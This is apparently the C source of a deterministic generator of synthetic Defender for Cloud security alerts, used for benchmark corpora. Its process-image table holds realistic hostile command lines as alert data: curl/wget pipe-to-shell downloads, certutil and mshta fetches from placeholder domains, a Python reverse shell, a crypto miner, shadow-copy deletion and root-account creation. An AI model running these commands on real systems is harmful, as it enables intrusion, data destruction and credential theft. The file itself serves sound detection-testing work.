/*
 * gen_alerts.c - a deterministic generator of realistic Defender for Cloud alerts.
 *
 * The benchmarks need corpora of any size that look like what corral reads in
 * production: the three input shapes of spec/formats.md (REST envelope,
 * continuous export with Json.NET $id/$ref, Sentinel SecurityAlert rows with
 * JSON-in-string columns), real alert types and display names taken from
 * data/defender-alert-catalog.tsv with their tactics and severities, and
 * entities that recur the way they do in a real tenant: every scope (a tenant
 * and its subscription) has pools of users, service principals, VMs, storage
 * accounts, key vaults, clusters, databases and apps, drawn with a Zipf law so
 * that a few entities appear often and most rarely. Attacker IPs, domains and
 * file hashes come from pools shared by all scopes, as scanners hit everyone.
 * --attacks M adds M short attack stories (a few alerts of different plans
 * sharing a user, an IP, a VM, a storage account...), shaped after the
 * incident kinds of spec/incidents.md.
 *
 * Output is NDJSON on stdout, one alert a line, in arrival order: start times
 * mostly increase, but a few alerts arrive hours late. The same options give
 * the same bytes: draws come from xoshiro256** seeded through splitmix64, and
 * entity attributes are pure hashes of (seed, scope, pool, index).
 *
 * Shapes and scope: REST alerts carry only their subscription id, export and
 * Sentinel alerts carry the tenant id, and corral scopes the former by
 * subscription and the latter by tenant (incidents.md); so one attack story is
 * always written in one shape. Export and Sentinel entities are written the
 * way Json.NET does: an object gets its "$id" where it first appears (maybe
 * nested, as a process's ImageFile or a file's FileHashes item) and is a
 * {"$ref"} everywhere after, even as a bare element of the entity list. REST
 * entities have no $id: a file is written inside its process, references to
 * hosts, accounts and processes (listed on their own) are left out, and any
 * other entity is written inline where it is first referred to.
 *
 * Size: alerts come in three levels of detail (55% terse, 35% usual, 10% rich:
 * optional entities such as processes, IP locations and threat intelligence,
 * extended properties, links). The mean record is about 2 KB in every shape;
 * the envelope alone (ids, times, resource identifiers, description) is about
 * 1.3 KB, so records cannot get much smaller and stay realistic.
 * --detail-mix M,T,U,R sets the shares, M being "minimal" alerts: terse ones
 * with a bare envelope (no correlation key, no AAD identifier, one extended
 * property). All-minimal corpora average about 1.7 KB (a resource id appears
 * three times in most alerts, and Kubernetes alerts are ~2.4 KB even so).
 *
 * Lifetimes: by default an entity of a pool exists for the whole span, so a
 * popular user or VM is active every day and its sessions never close. With
 * --lifetime-days L, each pool slot (a Zipf rank) is held by a new entity
 * every L days, at a per-slot phase: the same popularity and per-day rate,
 * but every user, service principal, IP, VM, resource and domain drawn from a
 * pool is active for at most L days. What does not come from pool indexes is
 * not rotated and recurs as it would in a real tenant: host account names on
 * Windows domains (DOMAIN\svc_backup), command lines without a domain or IP
 * in them, and file hashes (drawn uniformly, not from the Zipf pools).
 * Neither option changes the bytes of a corpus made without it.
 *
 * A command-line tool, not library code: a fatal problem (bad option, missing
 * catalog, out of memory) prints a message and exits with status 1 (2 for
 * usage).
 */
#include <errno.h>
#include <math.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))

__attribute__((format(printf, 1, 2), noreturn)) static void die(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    fputs("gen_alerts: ", stderr);
    vfprintf(stderr, fmt, ap);
    fputc('\n', stderr);
    va_end(ap);
    exit(1);
}

static void *xrealloc(void *p, size_t n)
{
    void *q = realloc(p, n ? n : 1);
    if (q == NULL) {
        die("out of memory (%zu bytes)", n);
    }
    return q;
}

/* ------------------------------------------------------------------------- */
/* Random numbers: splitmix64 for seeding and hashing, xoshiro256** for draws. */

static uint64_t mix64(uint64_t z)
{
    z += 0x9e3779b97f4a7c15ull;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

/* A stable hash of a tuple: an entity's attributes are functions of (seed, scope, pool, index). */
static uint64_t hash4(uint64_t a, uint64_t b, uint64_t c, uint64_t d)
{
    return mix64(a ^ mix64(b ^ mix64(c ^ mix64(d))));
}

struct rng {
    uint64_t s[4];
};

static void rng_seed(struct rng *r, uint64_t seed)
{
    for (int i = 0; i < 4; i++) {
        seed += 0x9e3779b97f4a7c15ull;
        r->s[i] = mix64(seed);
    }
}

static uint64_t rotl(uint64_t x, int k)
{
    return (x << k) | (x >> (64 - k));
}

static uint64_t rng_next(struct rng *r)
{
    uint64_t *s = r->s;
    uint64_t result = rotl(s[1] * 5, 7) * 9;
    uint64_t t = s[1] << 17;
    s[2] ^= s[0];
    s[3] ^= s[1];
    s[1] ^= s[2];
    s[0] ^= s[3];
    s[2] ^= t;
    s[3] = rotl(s[3], 45);
    return result;
}

/* Uniform in [0, n), n > 0 (multiply-shift; the bias of at most n / 2^32 does not matter here). */
static uint32_t rng_below(struct rng *r, uint32_t n)
{
    return (uint32_t)(((rng_next(r) >> 32) * (uint64_t)n) >> 32);
}

static double rng_unit(struct rng *r)
{
    return (double)(rng_next(r) >> 11) * 0x1p-53;
}

static int rng_chance(struct rng *r, double p)
{
    return rng_unit(r) < p;
}

#define PICK(r, arr) ((arr)[rng_below((r), (uint32_t)ARRAY_LEN(arr))])
#define HPICK(h, arr) ((arr)[(h) % ARRAY_LEN(arr)])

/* Zipf draws over a pool of n entities: entity i is drawn with weight 1 / (i+1)^s. */
#define ZIPF_S 1.1

struct zipf {
    uint32_t n;
    double *cdf;
};

static void zipf_init(struct zipf *z, uint32_t n)
{
    z->n = n;
    z->cdf = xrealloc(NULL, n * sizeof(double));
    double sum = 0;
    for (uint32_t i = 0; i < n; i++) {
        sum += 1.0 / pow((double)(i + 1), ZIPF_S);
        z->cdf[i] = sum;
    }
    for (uint32_t i = 0; i < n; i++) {
        z->cdf[i] /= sum;
    }
}

static uint32_t zipf_draw(const struct zipf *z, struct rng *r)
{
    double u = rng_unit(r);
    uint32_t lo = 0, hi = z->n - 1;
    while (lo < hi) {
        uint32_t mid = lo + (hi - lo) / 2;
        if (z->cdf[mid] < u) {
            lo = mid + 1;
        } else {
            hi = mid;
        }
    }
    return lo;
}

/* ------------------------------------------------------------------------- */
/* Output buffers and JSON text.                                             */

struct buf {
    char *p;
    size_t len, cap;
};

static void buf_reserve(struct buf *b, size_t more)
{
    if (b->len + more > b->cap) {
        size_t cap = b->cap ? b->cap : 4096;
        while (cap < b->len + more) {
            cap *= 2;
        }
        b->p = xrealloc(b->p, cap);
        b->cap = cap;
    }
}

static void buf_put(struct buf *b, const char *s, size_t n)
{
    buf_reserve(b, n);
    memcpy(b->p + b->len, s, n);
    b->len += n;
}

static void buf_cstr(struct buf *b, const char *s)
{
    buf_put(b, s, strlen(s));
}

static void buf_ch(struct buf *b, char c)
{
    buf_reserve(b, 1);
    b->p[b->len++] = c;
}

static void buf_i64(struct buf *b, int64_t v)
{
    char tmp[24];
    int n = 0;
    uint64_t u = v < 0 ? (uint64_t)0 - (uint64_t)v : (uint64_t)v;
    do {
        tmp[n++] = (char)('0' + u % 10);
        u /= 10;
    } while (u);
    if (v < 0) {
        tmp[n++] = '-';
    }
    buf_reserve(b, (size_t)n);
    while (n) {
        b->p[b->len++] = tmp[--n];
    }
}

/* A JSON string literal: quotes, backslashes and control characters escaped; UTF-8 kept as is. */
static void buf_json_str(struct buf *b, const char *s, size_t n)
{
    static const char hex[] = "0123456789abcdef";
    buf_reserve(b, n + 2);
    b->p[b->len++] = '"';
    size_t run = 0;
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)s[i];
        if (c >= 0x20 && c != '"' && c != '\\') {
            continue;
        }
        buf_put(b, s + run, i - run);
        run = i + 1;
        switch (c) {
        case '"':
            buf_put(b, "\\\"", 2);
            break;
        case '\\':
            buf_put(b, "\\\\", 2);
            break;
        case '\n':
            buf_put(b, "\\n", 2);
            break;
        case '\r':
            buf_put(b, "\\r", 2);
            break;
        case '\t':
            buf_put(b, "\\t", 2);
            break;
        default: {
            char u[6] = {'\\', 'u', '0', '0', hex[c >> 4], hex[c & 15]};
            buf_put(b, u, 6);
        }
        }
    }
    buf_put(b, s + run, n - run);
    buf_ch(b, '"');
}

/*
 * Json.NET's CamelCasePropertyNamesContractResolver: lower-case the leading
 * run of capitals except the last one before a lower-case letter
 * ("UPNSuffix" -> "upnSuffix", "OMSAgentID" -> "omsAgentID", "AzureID" -> "azureID").
 */
static size_t camel_case(const char *in, char *out, size_t cap)
{
    size_t n = strlen(in);
    if (n >= cap) {
        n = cap - 1;
    }
    memcpy(out, in, n);
    out[n] = '\0';
    for (size_t i = 0; i < n; i++) {
        int upper = out[i] >= 'A' && out[i] <= 'Z';
        if (i == 1 && !upper) {
            break;
        }
        if (i > 0 && i + 1 < n && !(out[i + 1] >= 'A' && out[i + 1] <= 'Z')) {
            break;
        }
        if (upper) {
            out[i] = (char)(out[i] - 'A' + 'a');
        }
    }
    return n;
}

/* A tiny streaming JSON writer that places the commas. */
#define JW_DEPTH 32

struct jw {
    struct buf *b;
    int depth;
    int after_key;
    int camel; /* write keys in camelCase (REST) */
    unsigned char need_comma[JW_DEPTH];
};

static void jw_init(struct jw *w, struct buf *b, int camel)
{
    memset(w, 0, sizeof *w);
    w->b = b;
    w->camel = camel;
}

static void jw_prefix(struct jw *w)
{
    if (w->after_key) {
        w->after_key = 0;
        return;
    }
    if (w->need_comma[w->depth]) {
        buf_ch(w->b, ',');
    }
    w->need_comma[w->depth] = 1;
}

static void jw_key(struct jw *w, const char *key)
{
    jw_prefix(w);
    if (w->camel) {
        char tmp[64];
        size_t n = camel_case(key, tmp, sizeof tmp);
        buf_json_str(w->b, tmp, n);
    } else {
        buf_json_str(w->b, key, strlen(key));
    }
    buf_ch(w->b, ':');
    w->after_key = 1;
}

static void jw_open(struct jw *w, char c)
{
    jw_prefix(w);
    buf_ch(w->b, c);
    if (w->depth + 1 >= JW_DEPTH) {
        die("JSON nesting too deep in the generator");
    }
    w->need_comma[++w->depth] = 0;
}

static void jw_close(struct jw *w, char c)
{
    w->depth--;
    buf_ch(w->b, c);
}

static void jw_str(struct jw *w, const char *s)
{
    jw_prefix(w);
    buf_json_str(w->b, s, strlen(s));
}

static void jw_int(struct jw *w, int64_t v)
{
    jw_prefix(w);
    buf_i64(w->b, v);
}

static void jw_dbl(struct jw *w, double v)
{
    char tmp[32];
    int n = snprintf(tmp, sizeof tmp, "%.5f", v);
    jw_prefix(w);
    buf_put(w->b, tmp, (size_t)n);
}

static void jw_raw(struct jw *w, const char *s)
{
    jw_prefix(w);
    buf_cstr(w->b, s);
}

static void jw_kstr(struct jw *w, const char *k, const char *v)
{
    jw_key(w, k);
    jw_str(w, v);
}

static void jw_kraw(struct jw *w, const char *k, const char *v)
{
    jw_key(w, k);
    jw_raw(w, v);
}

/* ------------------------------------------------------------------------- */
/* Time: 100 ns ticks since 1970-01-01, written as .NET does ("...:45.0170422Z"). */

#define TICKS_PER_SEC 10000000LL
#define TICKS_PER_MIN (60 * TICKS_PER_SEC)
#define TICKS_PER_HOUR (60 * TICKS_PER_MIN)
#define TICKS_PER_DAY (24 * TICKS_PER_HOUR)
#define DOTNET_EPOCH_TICKS 621355968000000000LL /* 0001-01-01 to 1970-01-01 */
#define ALERT_ID_BASE 3155378975999999999ULL    /* systemAlertId = this - .NET ticks */
#define TIME_TEXT 29

static void fmt_time(int64_t t, char out[TIME_TEXT])
{
    int64_t secs = t / TICKS_PER_SEC;
    int64_t frac = t % TICKS_PER_SEC;
    int64_t days = secs / 86400;
    int64_t sod = secs % 86400;
    /* civil_from_days (H. Hinnant), for days >= 0. */
    int64_t z = days + 719468;
    int64_t era = z / 146097;
    int64_t doe = z - era * 146097;
    int64_t yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t y = yoe + era * 400;
    int64_t doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    int64_t mp = (5 * doy + 2) / 153;
    int64_t d = doy - (153 * mp + 2) / 5 + 1;
    int64_t m = mp < 10 ? mp + 3 : mp - 9;
    y += m <= 2;
    int64_t f[] = {y, m, d, sod / 3600, sod / 60 % 60, sod % 60, frac};
    static const char layout[] = "0000-00-00T00:00:00.0000000Z";
    memcpy(out, layout, sizeof layout);
    static const int pos[] = {3, 6, 9, 12, 15, 18, 26}; /* last digit of each field */
    static const int width[] = {4, 2, 2, 2, 2, 2, 7};
    for (int i = 0; i < 7; i++) {
        int64_t v = f[i];
        for (int k = 0; k < width[i]; k++) {
            out[pos[i] - k] = (char)('0' + v % 10);
            v /= 10;
        }
    }
}

static void fmt_guid(uint64_t a, uint64_t b, char out[37])
{
    static const char hex[] = "0123456789abcdef";
    a = (a & ~0xf000ull) | 0x4000ull;                        /* version 4 */
    b = (b & 0x3fffffffffffffffull) | 0x8000000000000000ull; /* variant 1 */
    int o = 0;
    for (int i = 0; i < 16; i++) {
        if (i == 4 || i == 6 || i == 8 || i == 10) {
            out[o++] = '-';
        }
        uint64_t src = i < 8 ? a : b;
        unsigned byte = (unsigned)(src >> (8 * (7 - (i & 7)))) & 0xff;
        out[o++] = hex[byte >> 4];
        out[o++] = hex[byte & 15];
    }
    out[o] = '\0';
}

/* ------------------------------------------------------------------------- */
/* The alert catalog: data/defender-alert-catalog.tsv.                       */

enum gplan {
    GP_SERVERS,
    GP_APPSERVICE,
    GP_STORAGE,
    GP_SQL,
    GP_COSMOS,
    GP_KEYVAULT,
    GP_ARM,
    GP_DNS,
    GP_CONTAINERS,
    GP_APIS,
    GP_AI,
    GP_NETWORK,
    GP_COUNT
};

/* Share of each plan in background traffic (percent): servers and storage dominate real tenants. */
static const double plan_weight[GP_COUNT] = {34, 6, 12, 8, 2, 5, 10, 3, 10, 1.5, 1.5, 7};
static const char *const plan_component[GP_COUNT] = {
    "Servers", "AppServices", "Storage",    "SqlServers", "CosmosDbs", "KeyVaults",
    "Arm",     "Dns",         "Containers", "Apis",       "AI",        "Network"};

enum os { OS_ANY = 0, OS_WINDOWS, OS_LINUX };

struct row {
    char *type;
    char *name;
    char *tactics; /* "DefenseEvasion, Execution", or "Unknown" */
    const char *sev[4];
    int nsev;
    enum gplan plan;
    enum os os;
    int deprecated;
    int ddos; /* on a public IP rather than a VM */
    int node; /* a Kubernetes node alert (host and process entities) */
};

static int plan_from_column(const char *s, enum gplan *out)
{
    static const struct {
        const char *needle;
        enum gplan plan;
    } map[] = {
        {"DNS (", GP_DNS},
        {"network layer", GP_NETWORK},
        {"DDoS", GP_NETWORK},
        {"Servers", GP_SERVERS},
        {"SQL", GP_SQL},
        {"open-source relational", GP_SQL},
        {"Containers", GP_CONTAINERS},
        {"App Service", GP_APPSERVICE},
        {"Storage", GP_STORAGE},
        {"Cosmos", GP_COSMOS},
        {"Key Vault", GP_KEYVAULT},
        {"Resource Manager", GP_ARM},
        {"APIs", GP_APIS},
        {"AI services", GP_AI},
    };
    for (size_t i = 0; i < ARRAY_LEN(map); i++) {
        if (strstr(s, map[i].needle) != NULL) {
            *out = map[i].plan;
            return 0;
        }
    }
    return -1;
}

/* "Defense Evasion, Command And Control" -> "DefenseEvasion, CommandAndControl"; "-" -> "Unknown".
 */
static char *tactics_from_column(const char *s)
{
    if (*s == '\0' || strcmp(s, "-") == 0) {
        return strdup("Unknown");
    }
    size_t n = strlen(s);
    char *out = xrealloc(NULL, n + 1);
    size_t o = 0;
    for (size_t i = 0; i < n; i++) {
        if (s[i] == ' ' && !(i > 0 && s[i - 1] == ',')) {
            continue;
        }
        out[o++] = s[i];
    }
    out[o] = '\0';
    return out;
}

static void severities_from_column(const char *s, struct row *r)
{
    static const char *const names[] = {"High", "Medium", "Low", "Informational"};
    r->nsev = 0;
    for (size_t i = 0; i < ARRAY_LEN(names); i++) {
        if (strstr(s, names[i]) != NULL) {
            r->sev[r->nsev++] = names[i];
        }
    }
    if (r->nsev == 0) {
        r->sev[r->nsev++] = "Medium";
    }
}

/* Real alerts fill the display name's placeholders ("%{Service Name}"). */
static char *display_name_from_column(const char *s)
{
    const char *p = strstr(s, "%{");
    const char *q = p ? strchr(p, '}') : NULL;
    if (p == NULL || q == NULL) {
        return strdup(s);
    }
    size_t n = strlen(s);
    char *out = xrealloc(NULL, n + 8);
    size_t pre = (size_t)(p - s);
    memcpy(out, s, pre);
    memcpy(out + pre, "SSH", 3);
    strcpy(out + pre + 3, q + 1);
    return out;
}

struct catalog {
    struct row *rows;
    size_t n;
    uint32_t *by_plan[GP_COUNT];
    uint32_t n_plan[GP_COUNT];
};

static void catalog_load(struct catalog *cat, const char *path)
{
    FILE *f = fopen(path, "r");
    if (f == NULL) {
        die("%s: cannot open the alert catalog (--catalog PATH)", path);
    }
    memset(cat, 0, sizeof *cat);
    size_t cap = 0;
    char line[4096];
    int lineno = 0;
    while (fgets(line, sizeof line, f) != NULL) {
        lineno++;
        line[strcspn(line, "\r\n")] = '\0';
        if (line[0] == '#' || line[0] == '\0' || (lineno == 1 && strncmp(line, "plan\t", 5) == 0)) {
            continue;
        }
        char *col[5] = {"", "", "", "", ""};
        char *p = line;
        for (int i = 0; i < 5 && p != NULL; i++) {
            col[i] = p;
            p = strchr(p, '\t');
            if (p != NULL) {
                *p++ = '\0';
            }
        }
        enum gplan plan;
        if (col[1][0] == '\0' || col[2][0] == '\0' ||
            strncmp(col[0], "Security incident", 17) == 0 || plan_from_column(col[0], &plan) != 0) {
            continue; /* no alert type, a correlation output, or a plan we do not model */
        }
        if (cat->n == cap) {
            cap = cap ? cap * 2 : 256;
            cat->rows = xrealloc(cat->rows, cap * sizeof *cat->rows);
        }
        struct row *r = &cat->rows[cat->n++];
        memset(r, 0, sizeof *r);
        r->type = strdup(col[1]);
        if (r->type != NULL) {
            /* One type has a stray space in Microsoft's table; real alerts and corral have none. */
            char *w = r->type;
            for (const char *q = r->type; *q; q++) {
                if (*q != ' ') {
                    *w++ = *q;
                }
            }
            *w = '\0';
        }
        r->name = display_name_from_column(col[2]);
        r->tactics = tactics_from_column(col[3]);
        if (r->type == NULL || r->name == NULL || r->tactics == NULL) {
            die("out of memory");
        }
        severities_from_column(col[4], r);
        r->plan = plan;
        r->deprecated = strncmp(col[0], "Deprecated", 10) == 0;
        if (strstr(col[0], "Windows") != NULL || strncmp(r->type, "VM.Windows_", 11) == 0 ||
            strncmp(r->type, "SCUBA_", 6) == 0) {
            r->os = OS_WINDOWS;
        } else if (strstr(col[0], "Linux") != NULL || strstr(r->type, ".Linux") != NULL ||
                   strncmp(r->type, "SSH_", 4) == 0) {
            r->os = OS_LINUX;
        }
        r->ddos = strstr(r->type, "DDOS") != NULL;
        r->node = strncmp(r->type, "K8S.NODE_", 9) == 0;
    }
    fclose(f);
    if (cat->n == 0) {
        die("%s: no alert types found", path);
    }
    for (size_t i = 0; i < cat->n; i++) {
        enum gplan pl = cat->rows[i].plan;
        cat->by_plan[pl] = xrealloc(cat->by_plan[pl], (cat->n_plan[pl] + 1) * sizeof(uint32_t));
        cat->by_plan[pl][cat->n_plan[pl]++] = (uint32_t)i;
    }
}

static const struct row *catalog_find(const struct catalog *cat, const char *type)
{
    const struct row *found = NULL;
    for (size_t i = 0; i < cat->n; i++) {
        if (strcmp(cat->rows[i].type, type) == 0) {
            if (!cat->rows[i].deprecated) {
                return &cat->rows[i];
            }
            if (found == NULL) {
                found = &cat->rows[i];
            }
        }
    }
    return found;
}

/* ------------------------------------------------------------------------- */
/* Word lists for names and text.                                            */

static const char *const first_names[] = {
    "alice",   "bob",  "carol",  "dave",   "erin",   "frank",  "grace", "heidi",  "ivan",   "judy",
    "mallory", "niaj", "olivia", "peggy",  "rupert", "sybil",  "trent", "victor", "walter", "yuki",
    "amir",    "bea",  "chen",   "dmitri", "elif",   "fatima", "goran", "hana",   "ines",   "jorge",
    "kofi",    "lena", "mateo",  "nadia",  "oskar",  "priya",  "quinn", "rosa",   "sven",   "zoe"};
static const char *const last_names[] = {
    "smith",  "jones",   "garcia",  "muller", "rossi",  "nakamura", "kowalski", "silva",
    "novak",  "hansen",  "ivanova", "kim",    "nguyen", "okafor",   "patel",    "dubois",
    "jensen", "moreau",  "schmidt", "tanaka", "weber",  "yilmaz",   "zhang",    "lopez",
    "martin", "fischer", "costa",   "haddad", "larsen", "berg"};
static const char *const companies[] = {"contoso",   "fabrikam",     "adatum",    "northwind",
                                        "tailspin",  "wingtip",      "woodgrove", "litware",
                                        "proseware", "fourthcoffee", "alpineski", "adventureworks",
                                        "relecloud", "lamna",        "trey",      "wideworld"};
static const char *const roles[] = {"web",  "app",  "api", "db",    "sql", "build", "jump",  "dc",
                                    "file", "mail", "ftp", "batch", "etl", "ml",    "cache", "gw"};
static const char *const envs[] = {"prod", "prod", "prod", "dev", "test", "stage", "qa", "dr"};
static const char *const regions[] = {
    "westeurope",    "northeurope",        "eastus",    "eastus2",
    "westus2",       "centralus",          "uksouth",   "southeastasia",
    "francecentral", "germanywestcentral", "japaneast", "australiaeast"};
static const char *const sp_names[] = {
    "deploy-pipeline",   "backup-agent",     "terraform-sp", "github-actions",
    "monitoring-reader", "ci-runner",        "data-sync",    "aks-automation",
    "logicapp-conn",     "funcapp-identity", "devops-svc",   "sentinel-playbook"};
static const char *const host_users[] = {"azureuser",  "adminuser", "svc_backup", "svc_sql",
                                         "deploy",     "jenkins",   "oracle",     "ubuntu",
                                         "localadmin", "operator",  "webadmin",   "etl_runner"};
static const char *const builtin_users[] = {"SYSTEM", "root", "NETWORK SERVICE", "Administrator"};
static const char *const tlds[] = {"top",    "xyz",  "ru",   "info", "cn",  "biz",
                                   "online", "site", "club", "icu",  "com", "net"};
static const char *const domain_words[] = {"update", "cdn",  "static", "api",  "login", "secure",
                                           "files",  "sync", "mirror", "pool", "dl",    "track"};
static const char *const user_agents[] = {
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36"),
    "python-requests/2.31.0",
    "curl/8.4.0",
    "azsdk-net-Storage.Blobs/12.19.1 (.NET 8.0.0; Microsoft Windows 10.0.20348)",
    "Go-http-client/1.1",
    "Microsoft Azure Storage Explorer, 1.32.1, win32",
    "AzurePowershell/v10.4.1",
    "Mozilla/5.0 zgrab/0.x"};
static const char *const apps[] = {"Microsoft SQL Server Management Studio",
                                   "sqlcmd",
                                   "Navicat",
                                   "python-pyodbc",
                                   "DBeaver 23.2",
                                   "Core Microsoft SqlClient Data Provider",
                                   "sqlmap/1.7.2"};
static const char *const threat_names[] = {"Mirai",      "Emotet", "Tor exit node", "Cobalt Strike",
                                           "XMRig pool", "Qakbot", "scanner",       "AsyncRAT"};
static const char *const k8s_namespaces[] = {"default",       "kube-system", "payments",
                                             "frontend",      "monitoring",  "data",
                                             "ingress-nginx", "jobs"};
static const char *const blob_containers[] = {"backups",  "exports", "logs", "uploads",
                                              "invoices", "$web",    "data", "archive"};
static const char *const k8s_images[] = {"mcr.microsoft.com/oss/nginx/nginx:1.25.3",
                                         "docker.io/library/alpine:3.19",
                                         "docker.io/library/redis:7.2",
                                         "ghcr.io/example/payments-api:2.4.1",
                                         "docker.io/xmrig/xmrig:latest",
                                         "docker.io/library/busybox:latest",
                                         "mcr.microsoft.com/azure-cli:2.55.0"};
static const char *const operations[] = {
    "Microsoft.Storage/storageAccounts/listKeys/action",
    "Microsoft.KeyVault/vaults/secrets/read",
    "Microsoft.Compute/virtualMachines/runCommand/action",
    "Microsoft.Authorization/roleAssignments/write",
    "Microsoft.Compute/virtualMachines/extensions/write",
    "Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action",
    "Microsoft.Resources/deployments/write",
    "Microsoft.Web/sites/publishxml/action"};

struct location {
    const char *cc, *country, *state, *city;
    double lon, lat;
    int asn;
};

static const struct location locations[] = {
    {"US", "United States", "Virginia", "Washington", -78.17197, 38.73078, 8075},
    {"NL", "Netherlands", "North Holland", "Amsterdam", 4.88969, 52.37403, 60781},
    {"RU", "Russia", "Moscow", "Moscow", 37.61556, 55.75222, 12389},
    {"CN", "China", "Beijing", "Beijing", 116.39723, 39.9075, 4808},
    {"BR", "Brazil", "S\xc3\xa3o Paulo", "S\xc3\xa3o Paulo", -46.63611, -23.5475, 28573},
    {"DE", "Germany", "Hesse", "Frankfurt am Main", 8.68417, 50.11552, 24940},
    {"CH", "Switzerland", "Z\xc3\xbcrich", "Z\xc3\xbcrich", 8.55, 47.36667, 3303},
    {"PL", "Poland", "Lesser Poland", "Krak\xc3\xb3w", 19.93658, 50.06143, 5617},
    {"IR", "Iran", "Tehran", "Tehran", 51.42151, 35.69439, 58224},
    {"VN", "Vietnam", "Hanoi", "Hanoi", 105.84117, 21.0245, 45899},
    {"GB", "United Kingdom", "England", "London", -0.12574, 51.50853, 5089},
    {"IN", "India", "Maharashtra", "Mumbai", 72.88261, 19.07283, 9829},
    {"SG", "Singapore", "Singapore", "Singapore", 103.85007, 1.28967, 16509},
    {"UA", "Ukraine", "Kyiv City", "Kyiv", 30.5238, 50.45466, 15895},
    {"JP", "Japan", "Tokyo", "Tokyo", 139.69171, 35.6895, 2516},
    {"FR", "France", "\xc3\x8ele-de-France", "Paris", 2.3488, 48.85341, 16276},
};

/* Process images: %D in a command line is replaced by a domain, %I by an IP. */
struct image {
    enum os os;
    const char *dir, *name, *cmd;
};

static const struct image images[] = {
    {OS_WINDOWS, "c:\\windows\\system32\\windowspowershell\\v1.0", "powershell.exe",
     "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand "
     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"},
    {OS_WINDOWS, "c:\\windows\\system32", "cmd.exe",
     "cmd.exe /c \"whoami /all > c:\\users\\public\\w.txt\""},
    {OS_WINDOWS, "c:\\windows\\system32", "certutil.exe",
     "certutil.exe -urlcache -split -f http://%D/a.exe c:\\windows\\temp\\a.exe"},
    {OS_WINDOWS, "c:\\windows\\system32", "rundll32.exe",
     "rundll32.exe c:\\programdata\\svc.dll,DllRegisterServer"},
    {OS_WINDOWS, "c:\\windows\\system32\\wbem", "wmic.exe",
     "wmic.exe shadowcopy delete /nointeractive"},
    {OS_WINDOWS, "c:\\windows\\system32", "mshta.exe", "mshta.exe http://%D/x.hta"},
    {OS_WINDOWS, "c:\\windows\\system32", "schtasks.exe",
     "schtasks.exe /create /sc minute /mo 30 /tn \"Updater\" /tr \"c:\\programdata\\upd.exe\""},
    {OS_WINDOWS, "c:\\windows\\system32", "reg.exe",
     "reg.exe add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\" /v "
     "UseLogonCredential /t REG_DWORD /d 1 /f"},
    {OS_WINDOWS, "c:\\windows\\system32", "vssadmin.exe",
     "vssadmin.exe delete shadows /all /quiet"},
    {OS_WINDOWS, "c:\\users\\public", "svchost.exe", "c:\\users\\public\\svchost.exe -k netsvcs"},
    {OS_LINUX, "/usr/bin", "bash", "bash -c \"curl -fsSL http://%D/i.sh | bash\""},
    {OS_LINUX, "/usr/bin", "curl", "curl -s -o /tmp/.x http://%D/xmr"},
    {OS_LINUX, "/usr/bin", "wget", "wget -q http://%D/k.sh -O- | sh"},
    {OS_LINUX, "/tmp/.cache", "xmrig",
     "/tmp/.cache/xmrig -o stratum+tcp://%D:3333 --donate-level 1"},
    {OS_LINUX, "/usr/bin", "python3",
     "python3 -c 'import "
     "socket,os;s=socket.socket();s.connect((\"%I\",4444));os.dup2(s.fileno(),0)'"},
    {OS_LINUX, "/usr/bin", "base64", "base64 -d /tmp/p.b64"},
    {OS_LINUX, "/usr/bin", "nohup", "nohup /var/tmp/.x/kdevtmpfsi > /dev/null 2>&1 &"},
    {OS_LINUX, "/usr/sbin", "useradd", "useradd -m -o -u 0 -g 0 sysadm"},
    {OS_LINUX, "/usr/bin", "crontab",
     "crontab -l | { cat; echo \"*/5 * * * * /tmp/.x/u\"; } | crontab -"},
};

static const struct image parents[] = {
    {OS_WINDOWS, "c:\\windows", "explorer.exe", "c:\\windows\\explorer.exe"},
    {OS_WINDOWS, "c:\\windows\\system32", "services.exe", "c:\\windows\\system32\\services.exe"},
    {OS_WINDOWS, "c:\\windows\\system32\\inetsrv", "w3wp.exe", "w3wp.exe -ap \"DefaultAppPool\""},
    {OS_LINUX, "/usr/sbin", "sshd", "sshd: azureuser@pts/0"},
    {OS_LINUX, "/usr/sbin", "cron", "/usr/sbin/CRON -f"},
    {OS_LINUX, "/usr/lib/systemd", "systemd", "/sbin/init"},
};

/* MITRE ATT&CK technique per tactic, for REST techniques[] and Sentinel Techniques. */
static const char *technique_of(const char *tactic, size_t len)
{
    static const struct {
        const char *tactic, *technique;
    } map[] = {
        {"PreAttack", "T1595"},
        {"Probing", "T1595"},
        {"Reconnaissance", "T1592"},
        {"ResourceDevelopment", "T1583"},
        {"InitialAccess", "T1078"},
        {"Exploitation", "T1203"},
        {"Persistence", "T1098"},
        {"PrivilegeEscalation", "T1068"},
        {"DefenseEvasion", "T1562"},
        {"CredentialAccess", "T1110"},
        {"Discovery", "T1087"},
        {"LateralMovement", "T1021"},
        {"Execution", "T1059"},
        {"Collection", "T1530"},
        {"CommandAndControl", "T1071"},
        {"Exfiltration", "T1048"},
        {"Impact", "T1496"},
    };
    for (size_t i = 0; i < ARRAY_LEN(map); i++) {
        if (strlen(map[i].tactic) == len && memcmp(map[i].tactic, tactic, len) == 0) {
            return map[i].technique;
        }
    }
    return NULL;
}

/* ------------------------------------------------------------------------- */
/* Scopes and entity pools.                                                  */

enum pool {
    P_USER,      /* AAD users of the tenant */
    P_SP,        /* service principals */
    P_HOSTACCT,  /* local or domain accounts on machines */
    P_IP_SCOPE,  /* the tenant's own addresses: office egress and private ranges */
    P_IP_ATTACK, /* attacker addresses, shared by every scope */
    P_VM,
    P_STORAGE,
    P_KEYVAULT,
    P_CLUSTER,
